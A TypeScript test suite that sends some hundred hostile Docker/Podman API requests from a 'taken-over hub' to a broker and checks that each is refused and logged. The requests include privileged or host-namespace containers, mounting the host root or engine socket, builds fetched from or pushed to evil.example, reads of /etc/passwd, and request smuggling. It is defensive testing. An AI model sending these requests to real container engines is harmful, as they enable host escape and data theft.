/** What a hub that was taken over would ask of the engine: all of it refused and logged, and nothing made. */
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { request } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { makeBusyboxRoot, startPodman } from "../../test/support/engines.ts";
import { createPodmanDriver } from "../drivers/index.ts";
import { ClosingStack } from "../kernel/index.ts";
import { hostView } from "./host-view.ts";
import { startBroker } from "./server.ts";
import { bind, HUB, helperOf, IMAGE, POLICY, serverOf } from "./test-support/bodies.ts";

interface Asked {
  readonly method?: string;
  readonly path: string;
  readonly body?: unknown;
  readonly text?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

describe("a hub that was taken over", () => {
  const stack = new ClosingStack();
  const logged: { readonly facts: Readonly<Record<string, unknown>>; readonly message: string }[] = [];
  let engine = "";
  let broker = "";
  let pins = "";
  let strangerId = "";
  let known = "";

  before(async () => {
    const podman = stack.add(await startPodman());
    const folder = await mkdtemp(join(tmpdir(), "hublet-broker-"));
    stack.defer(() => rm(folder, { recursive: true }));
    engine = podman.socketPath;
    broker = join(folder, "broker.sock");
    pins = join(folder, "hub.json");
    stack.add(
      await startBroker({
        engineSocket: engine,
        listenSocket: broker,
        socketMode: 0o600,
        pinsFile: pins,
        policy: () => POLICY,
        accountOf: () => undefined,
        view: hostView(""),
        log: {
          warn: (facts, message) => void logged.push({ facts: { ...facts }, message }),
          error: (facts, message) => assert.fail(`${message}: ${JSON.stringify(facts)}`),
        },
      }),
    );
    const root = await makeBusyboxRoot();
    const driver = stack.add(createPodmanDriver({ socketPath: engine, hub: HUB }));
    const settings = {
      entrypoint: [],
      command: ["busybox", "true"],
      user: "1000:100",
      workingDirectory: "/",
      environment: {},
      labels: {},
    };
    await driver.images?.importRoot(
      root.tarPath,
      { ...settings, reference: IMAGE },
      { signal: AbortSignal.timeout(60_000) },
    );
    stack.defer(async () => driver.images?.remove(IMAGE));
    await root.close();
    // What others have on the same engine.
    const made = await ask(engine, {
      method: "POST",
      path: "/v1.41/containers/create?name=strangers",
      body: { Image: IMAGE, Env: ["TOKEN=hush"], Labels: { "hublet.hub": "hub-2" } },
    });
    strangerId = (JSON.parse(made.text) as { Id: string }).Id;
    stack.defer(
      async () => void (await ask(engine, { method: "DELETE", path: "/v1.41/containers/strangers?force=true" })),
    );
    for (const [name, hub] of [
      ["jupyterhub-user-bob", "hub-2"],
      ["jupyterhub-user-ada", HUB],
    ] as const) {
      await ask(engine, {
        method: "POST",
        path: "/v1.41/volumes/create",
        body: { Name: name, Labels: { "hublet.hub": hub } },
      });
      stack.defer(async () => void (await ask(engine, { method: "DELETE", path: `/v1.41/volumes/${name}` })));
    }
    await ask(engine, {
      method: "POST",
      path: "/v1.41/networks/create",
      body: { Name: "strangers", Driver: "bridge" },
    });
    stack.defer(async () => void (await ask(engine, { method: "DELETE", path: "/v1.41/networks/strangers" })));
    // The hub is known by its first question.
    const filters = encodeURIComponent(JSON.stringify({ type: ["container"], label: [`hublet.hub=${HUB}`] }));
    const events = request({
      socketPath: broker,
      path: `/v1.41/events?since=${Math.floor(Date.now() / 1000)}&filters=${filters}`,
    });
    await new Promise((resolve) => events.once("response", resolve).end());
    events.destroy();
    assert.deepEqual(JSON.parse(await readFile(pins, "utf8")), { hub: HUB });
    known = await everything();
  });
  after(() => stack.close());

  /** What the engine has of all that is asked for below; others may be at work on it, too. */
  async function everything(): Promise<string> {
    const read = async (path: string, wanted: RegExp) => (await ask(engine, { path })).text.match(wanted)?.toSorted();
    return JSON.stringify([
      await read("/v1.41/containers/json?all=true", /"\/(?:jupyter-ada|strangers|hublet-broker|hublet-pack-x)"/g),
      (await read("/v1.41/containers/strangers/json", /"(?:Status|StartedAt|Memory)":[^,]*/g)) ?? [],
      await read("/v1.41/volumes", /"(?:jupyterhub-user-\w+|mine|material)"/g),
      await read("/v1.41/networks", /"(?:strangers|jupyter-eve)"/g),
      await read(
        "/v1.41/images/json",
        /"localhost\/hublet-(?:test\/x|test\/attacks|hub|proxy)[^"]*"|"[^"]*alpine[^"]*"/g,
      ),
    ]);
  }

  function create(body: unknown, name = "jupyter-ada"): Asked {
    return { method: "POST", path: `/v1.41/containers/create?name=${name}`, body };
  }
  const host = (fields: Readonly<Record<string, unknown>>): Asked => create(serverOf({}, fields));
  const mounts = (...all: readonly unknown[]): Asked => host({ Mounts: all });
  const build = (query: string): Asked => ({
    method: "POST",
    path: `/v1.41/build?dockerfile=Containerfile&t=localhost%2Fhublet-test%2Fx%3A1&buildargs=%7B%7D&labels=%7B%7D&nocache=false&rm=true&forcerm=true${query}`,
    text: "",
    headers: { "content-type": "application/x-tar" },
  });
  const namespaces = (process: number | "host", network: number | "host" = process) => {
    const of = (id: number | "host", name: string) =>
      id === "host" ? { Host: true, Path: "" } : { Host: false, Path: `/proc/${id}/ns/${name}` };
    const both = [
      { Name: "network", ...of(network, "net") },
      { Name: "pid", ...of(process, "pid") },
    ];
    return `&nsoptions=${encodeURIComponent(JSON.stringify(both))}`;
  };

  const ATTACKS: Readonly<Record<string, () => Asked>> = {
    "a privileged container": () => host({ Privileged: true }),
    "a privileged container by another spelling": () => host({ privileged: true }),
    "a privileged container by a key that stands twice": () => ({
      ...create(undefined),
      text: JSON.stringify(serverOf()).replace('"CapDrop"', '"Privileged":false,"Privileged":true,"CapDrop"'),
    }),
    "a container outside of HostConfig's own schema": () => create({ ...serverOf(), hostconfig: { Privileged: true } }),
    "the host's network": () => host({ NetworkMode: "host" }),
    "another container's network": () => host({ NetworkMode: `container:${strangerId}` }),
    "the network of strangers": () => host({ NetworkMode: "strangers" }),
    "a network with a way to the host's loopback": () => host({ NetworkMode: "slirp4netns:allow_host_loopback=true" }),
    "the host's processes": () => host({ PidMode: "host" }),
    "the host's shared memory": () => host({ IpcMode: "host" }),
    "the host's name": () => host({ UTSMode: "host" }),
    "the host's users": () => host({ UsernsMode: "host" }),
    "the host's control groups": () => host({ CgroupnsMode: "host" }),
    "a parent in the host's control groups": () => host({ CgroupParent: "/" }),
    "a device": () =>
      host({ Devices: [{ PathOnHost: "/dev/sda", PathInContainer: "/dev/sda", CgroupPermissions: "rwm" }] }),
    "all devices by request": () => host({ DeviceRequests: [{ Count: -1, Capabilities: [["gpu"]] }] }),
    "a rule for devices": () => host({ DeviceCgroupRules: ["a *:* rwm"] }),
    "a capability": () => host({ CapAdd: ["SYS_ADMIN"] }),
    "all of an engine's default capabilities": () => host({ CapDrop: [] }),
    "no seccomp": () => host({ SecurityOpt: ["no-new-privileges", "seccomp=unconfined"] }),
    "new privileges": () => host({ SecurityOpt: [] }),
    "a kernel setting": () => host({ Sysctls: { "kernel.core_pattern": "|/x" } }),
    "another runtime": () => host({ Runtime: "/bin/sh" }),
    "the root of the host by Binds": () => host({ Binds: ["/:/host"] }),
    "the root of the host by Mounts": () => mounts(bind("/")),
    "a folder that nobody named": () => mounts(bind("/root")),
    "a folder by a way round": () => mounts(bind("/srv/data/../../root")),
    "a folder below one that was named": () => mounts(bind("/srv/data/below")),
    "a read-only folder for writing": () => mounts(bind("/srv/data", false)),
    "a folder with what is mounted below it": () =>
      mounts(bind("/srv/data", true, { BindOptions: { Propagation: "rshared", NonRecursive: false } })),
    "a folder below one that servers write": () => mounts(bind("/srv/shared/course")),
    "another person's folder": () => mounts(bind("/home/jupyter-bob", false)),
    "the hub's state": () => mounts(bind("/var/lib/hublet/state")),
    "the configuration, also when it names itself": () => mounts(bind("/etc/hublet/keys")),
    "the engine's socket": () => mounts(bind("/run/podman/podman.sock")),
    "a volume that is a folder of the host": () =>
      mounts({
        Type: "volume",
        Source: "jupyterhub-user-ada",
        Target: "/x",
        ReadOnly: false,
        VolumeOptions: { DriverConfig: { Name: "local", Options: { type: "none", o: "bind", device: "/" } } },
      }),
    "another person's volume": () =>
      mounts({ Type: "volume", Source: "jupyterhub-user-bob", Target: "/x", ReadOnly: false }),
    "another hub's volume by a helper": () =>
      create(
        helperOf({}, { Mounts: [{ Type: "volume", Source: "jupyterhub-user-bob", Target: "/x", ReadOnly: true }] }),
        "hublet-pack-x",
      ),
    "a volume of the configuration, for writing": () =>
      mounts({ Type: "volume", Source: "material", Target: "/x", ReadOnly: false }),
    "volumes of another container": () => host({ VolumesFrom: ["strangers"] }),
    "a server as root": () => create(serverOf({ User: "0" })),
    "a server as root by its group": () => create(serverOf({ User: "1000:0" })),
    "a server of a group that nobody gave it": () => host({ GroupAdd: ["999"] }),
    "a helper with a folder of the host": () => create(helperOf({}, { Mounts: [bind("/srv/data")] }), "hublet-pack-x"),
    "a helper with more capabilities": () => create(helperOf({}, { CapAdd: ["SYS_ADMIN"] }), "hublet-pack-x"),
    "a helper with a network": () => create(helperOf({}, { NetworkMode: "slirp4netns" }), "hublet-pack-x"),
    "a helper that is a server as well": () =>
      create(helperOf({ Labels: { "hublet.export": HUB, "hublet.hub": HUB } }), "hublet-pack-x"),
    "a port for everybody": () => host({ PortBindings: { "8888/tcp": [{ HostIp: "0.0.0.0", HostPort: "" }] } }),
    "a port of its own choice": () => host({ PortBindings: { "8888/tcp": [{ HostIp: "127.0.0.1", HostPort: "22" }] } }),
    "names for other hosts": () => host({ ExtraHosts: ["lab.example:10.0.0.1"] }),
    "a container that comes back by itself": () => host({ RestartPolicy: { Name: "always" } }),
    "a log into a file of the host": () =>
      host({ LogConfig: { Type: "k8s-file", Config: { "max-size": "10m", path: "/etc/cron.d/x" } } }),
    "the environment of the engine": () => create(serverOf({ Env: ["*"] })),
    "a container without the hub's label": () => create(serverOf({ Labels: {} })),
    "a container with another hub's label": () => create(serverOf({ Labels: { "hublet.hub": "hub-2" } })),
    "a label that means something to the host": () =>
      create(serverOf({ Labels: { "hublet.hub": HUB, "io.containers.autoupdate": "registry" } })),
    "a container that is called like the broker": () => create(serverOf(), "hublet-broker"),
    "an image that nobody named": () => create(serverOf({ Image: "docker.io/library/alpine:3" })),
    "the program's own image": () => create(serverOf({ Image: "localhost/hublet-hub:1" })),
    "an image from a file (import)": () => ({
      method: "POST",
      path: "/v1.41/images/create?fromSrc=-&repo=localhost%2Fhublet-test%2Fx",
      text: "",
      headers: { "content-type": "application/x-tar" },
    }),
    "images from an archive (load)": () => ({
      method: "POST",
      path: "/v1.41/images/load",
      text: "",
      headers: { "content-type": "application/x-tar" },
    }),
    "a pull of an image that nobody named": () => ({
      method: "POST",
      path: "/v1.41/images/create?fromImage=docker.io%2Flibrary%2Falpine%3A3",
    }),
    "the name of the program's image for another": () => ({
      method: "POST",
      path: `/v1.41/images/${encodeURIComponent("localhost")}/hublet-test/attacks%3A1/tag?repo=localhost%2Fhublet-hub&tag=1`,
    }),
    "a push to a registry of somebody else": () => ({
      method: "POST",
      path: "/v1.41/images/evil.example/x/push?tag=1",
    }),
    "a build with the name of the program": () => ({
      ...build(""),
      path: build("").path.replace("hublet-test%2Fx", "hublet-proxy"),
    }),
    "a build in the host's network": () => build("&networkmode=host"),
    "a build with a folder of the host": () => build("&volume=%2F%3A%2Fhost"),
    "a build from an address": () => build("&remote=http%3A%2F%2Fevil.example%2Fx.tar"),
    "a build without seccomp": () => build("&seccomp=unconfined"),
    "a build among the host's processes": () => build(namespaces(1)),
    "a build among the host's processes, said so": () => build(namespaces("host", 1)),
    "a build in the host's network, by its namespaces": () => build(namespaces(1, "host")),
    "a build in the network of one and among the processes of another": () => build(namespaces(1, 2)),
    "a build without a helper": () => build(""),
    "a build with another context (additionalbuildcontexts)": () => build("&additionalbuildcontexts=x%3Durl%3A%2Fetc"),
    "a build with a secret of the host": () => build("&secrets=%5B%22id%3Dx%2Csrc%3D%2Fetc%2Fpasswd%22%5D"),
    "a build whose content goes to a folder of the host": () => build("&outputs=type%3Dlocal%2Cdest%3D%2Ftmp%2Fx"),
    "a build in another isolation": () => build("&isolation=chroot"),
    "a build with devices": () => build("&devices=%5B%22%2Fdev%2Ffuse%22%5D"),
    "a build with a hook of the host": () => build("&ocihooksdir=%2Ftmp"),
    "a build by BuildKit, which has sessions": () => build("&version=2"),
    "a packed folder": () => ({
      ...build(""),
      headers: { "content-type": "application/x-tar", "content-encoding": "gzip" },
    }),
    "a session for a builder": () => ({
      method: "POST",
      path: "/v1.41/session",
      headers: { connection: "Upgrade", upgrade: "h2c" },
    }),
    "a build whose file lies outside": () => ({
      ...build(""),
      path: build("").path.replace("=Containerfile", "=..%2F..%2Fetc%2Fpasswd"),
    }),
    "a build whose files lie outside, in Podman's list": () => ({
      ...build(""),
      path: build("").path.replace("=Containerfile", `=${encodeURIComponent('["\\u002e\\u002e/secret"]')}`),
    }),
    "a build whose file takes in others by the preprocessor": () => ({
      ...build(""),
      path: build("").path.replace("=Containerfile", "=Containerfile.in"),
    }),
    "a command in another's container (exec)": () => ({
      method: "POST",
      path: "/v1.41/containers/strangers/exec",
      body: { Cmd: ["sh"] },
    }),
    "a command in a container of one's own (exec)": () => ({
      method: "POST",
      path: "/v1.41/containers/jupyter-ada/exec",
      body: { Cmd: ["sh"], Privileged: true },
    }),
    "a start of another's container": () => ({ method: "POST", path: "/v1.41/containers/strangers/start" }),
    "a stop of another's container": () => ({ method: "POST", path: "/v1.41/containers/strangers/stop?t=0" }),
    "the removal of another's container by its id": () => ({
      method: "DELETE",
      path: `/v1.41/containers/${strangerId}?force=true&v=true`,
    }),
    "the removal of another's container by the beginning of its id": () => ({
      method: "DELETE",
      path: `/v1.41/containers/${strangerId.slice(0, 12)}?force=true&v=true`,
    }),
    "what another's container says": () => ({
      path: "/v1.41/containers/strangers/logs?stdout=true&stderr=true&tail=10",
    }),
    "the input of another's container": () => ({
      method: "POST",
      path: "/v1.41/containers/strangers/attach?stream=true&stdin=true&stdout=true&stderr=true",
      headers: { connection: "Upgrade", upgrade: "tcp" },
    }),
    "files of another's container": () => ({ path: "/v1.41/containers/strangers/archive?path=%2Fetc%2Fpasswd" }),
    "files into a container": () => ({
      method: "PUT",
      path: "/v1.41/containers/jupyter-ada/archive?path=%2F",
      text: "",
    }),
    "an image of another's container (commit)": () => ({
      method: "POST",
      path: "/v1.41/commit?container=strangers&repo=localhost%2Fhublet-test%2Fx",
    }),
    "another container's whole content (export)": () => ({ path: "/v1.41/containers/strangers/export" }),
    "other settings for a container (update)": () => ({
      method: "POST",
      path: "/v1.41/containers/jupyter-ada/update",
      body: { Memory: 0 },
    }),
    "another's volume removed": () => ({ method: "DELETE", path: "/v1.41/volumes/jupyterhub-user-bob" }),
    "a volume with a driver": () => ({
      method: "POST",
      path: "/v1.41/volumes/create",
      body: {
        Name: "jupyterhub-user-eve",
        Labels: { "hublet.hub": HUB },
        Driver: "local",
        DriverOpts: { type: "none", o: "bind", device: "/" },
      },
    }),
    "a volume of any name": () => ({
      method: "POST",
      path: "/v1.41/volumes/create",
      body: { Name: "mine", Labels: { "hublet.hub": HUB } },
    }),
    "another's network removed": () => ({ method: "DELETE", path: "/v1.41/networks/strangers" }),
    "a network that is open to the host": () => ({
      method: "POST",
      path: "/v1.41/networks/create",
      body: {
        Name: "jupyter-eve",
        Driver: "macvlan",
        CheckDuplicate: true,
        Labels: { "hublet.hub": HUB },
        Options: { parent: "eth0" },
      },
    }),
    "a server into another's network": () => ({
      method: "POST",
      path: "/v1.41/networks/strangers/connect",
      body: { Container: "jupyter-ada" },
    }),
    "everything that nobody uses removed (prune)": () => ({ method: "POST", path: "/v1.41/volumes/prune" }),
    "a plugin": () => ({ method: "POST", path: "/v1.41/plugins/pull?remote=evil" }),
    "secrets of the deployment": () => ({ path: "/v4.0.0/libpod/secrets/json" }),
    "a container by Podman's own API": () => ({
      method: "POST",
      path: "/v4.0.0/libpod/containers/create",
      body: { image: IMAGE, privileged: true },
    }),
    "a pod by Podman's own API": () => ({ method: "POST", path: "/v4.0.0/libpod/play/kube", text: "kind: Pod" }),
    "events of everybody": () => ({ path: "/v1.41/events?since=0&filters=%7B%7D" }),
    "events of another hub": () => ({
      path: `/v1.41/events?since=0&filters=${encodeURIComponent(JSON.stringify({ type: ["container"], label: ["hublet.hub=hub-2"] }))}`,
    }),
    "a path with an encoded slash": () => ({ path: "/v1.41/containers/x%2F..%2F..%2Fsecrets/json" }),
    "a path that is encoded twice": () => ({ path: "/v1.41/containers/%252e%252e/json" }),
    "a path that goes up": () => ({ path: "/v1.41/containers/../secrets/json" }),
    "a path with two slashes": () => ({ path: "//v1.41/secrets" }),
    "a version that nobody knows": () => ({ path: "/v9.99/containers/json" }),
    "a parameter that nobody uses": () => ({ method: "DELETE", path: "/v1.41/volumes/jupyterhub-user-ada?force=true" }),
    "a body where there is none": () => ({
      method: "POST",
      path: "/v1.41/containers/strangers/start",
      body: { Binds: ["/:/x"] },
    }),
    "a look at a folder that nobody mounts": () => ({
      method: "POST",
      path: "/hublet/look",
      body: { path: "/root/.ssh" },
    }),
  };

  for (const [name, attack] of Object.entries(ATTACKS))
    test(name, async () => {
      const before = logged.length;
      const { status, text } = await ask(broker, attack());
      assert.equal(status, 403, text);
      assert.match((JSON.parse(text) as { message: string }).message, /^hublet-broker: ./);
      const [last] = logged.slice(before);
      assert.equal(last?.message, "refused");
      assert.ok(typeof last.facts.why === "string" && last.facts.why !== "");
    });

  test("another's container looks as if it were not there, and none of its environment is told", async () => {
    const { status, text } = await ask(broker, { path: "/v1.41/containers/strangers/json" });
    assert.equal(status, 404);
    assert.ok(!text.includes("hush"));
    const listed = await ask(broker, { path: "/v1.41/containers/json?all=true" });
    assert.deepEqual([listed.status, JSON.parse(listed.text)], [200, []]);
  });

  test("a second request behind the first is never read", async () => {
    const first = "POST /v1.41/containers/jupyter-ada/start HTTP/1.1\r\nHost: e\r\nContent-Length: 0\r\n\r\n";
    const second = "POST /v1.41/containers/strangers/start HTTP/1.1\r\nHost: e\r\nContent-Length: 0\r\n\r\n";
    assert.equal((await raw(first + second)).match(/HTTP\/1\.1 /g)?.length, 1);
  });

  test("two lengths, or a strange encoding, are no request", async () => {
    const head = "POST /v1.41/containers/strangers/start HTTP/1.1\r\nHost: e\r\n";
    for (const lengths of [
      "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
      "Content-Length: 0\r\nContent-Length: 5\r\n\r\nhello",
      "Transfer-Encoding: xchunked\r\n\r\n",
    ])
      assert.match(await raw(head + lengths), /^HTTP\/1\.1 (400|403) /);
  });

  test("neither bodies nor their environment are in the log", async () => {
    await ask(broker, create(serverOf({ Env: ["JUPYTERHUB_API_TOKEN=very-secret"] }, { Privileged: true })));
    assert.ok(!JSON.stringify(logged).includes("very-secret"));
  });

  test("after all of this, the engine has what it had before", async () => {
    assert.ok(Object.keys(ATTACKS).length >= 40);
    assert.equal(await everything(), known);
  });

  test("and the honest request passes", async () => {
    const made = await ask(broker, create(serverOf()));
    assert.equal(made.status, 201, made.text);
    const { Id: id } = JSON.parse(made.text) as { Id: string };
    const gone = await ask(broker, { method: "DELETE", path: `/v1.41/containers/${id}?force=true&v=true` });
    assert.ok(gone.status < 300, gone.text);
    const helper = await ask(broker, create(helperOf(), "hublet-pack-jupyterhub-user-ada"));
    assert.equal(helper.status, 201, helper.text);
    await ask(broker, {
      method: "DELETE",
      path: "/v1.41/containers/hublet-pack-jupyterhub-user-ada?force=true&v=true",
    });
    const looked = await ask(broker, { method: "POST", path: "/hublet/look", body: { path: "/srv" } });
    assert.deepEqual([looked.status, (JSON.parse(looked.text) as { real: string }).real], [200, "/srv"]);
  });

  /** All that comes back for these bytes. */
  function raw(bytes: string): Promise<string> {
    return new Promise((resolve, reject) => {
      let text = "";
      const socket = connect(broker, () => socket.write(bytes));
      socket.setEncoding("utf8").on("data", (chunk: string) => {
        text += chunk;
      });
      socket.once("error", reject).once("close", () => resolve(text));
    });
  }
});

function ask(
  socketPath: string,
  { method = "GET", path, body, text, headers }: Asked,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const content = text ?? (body === undefined ? undefined : JSON.stringify(body));
    const type = content === undefined ? {} : { "content-type": "application/json" };
    const outgoing = request({ socketPath, method, path, agent: false, headers: { ...type, ...headers } });
    outgoing.once("error", reject);
    outgoing.once("upgrade", (_answer, socket) => {
      socket.destroy();
      resolve({ status: 101, text: "" });
    });
    outgoing.once("response", (answer) => {
      let said = "";
      answer.setEncoding("utf8").on("data", (chunk: string) => {
        said += chunk;
      });
      answer.once("error", reject).once("end", () => resolve({ status: answer.statusCode ?? 0, text: said }));
    });
    outgoing.end(content);
  });
}
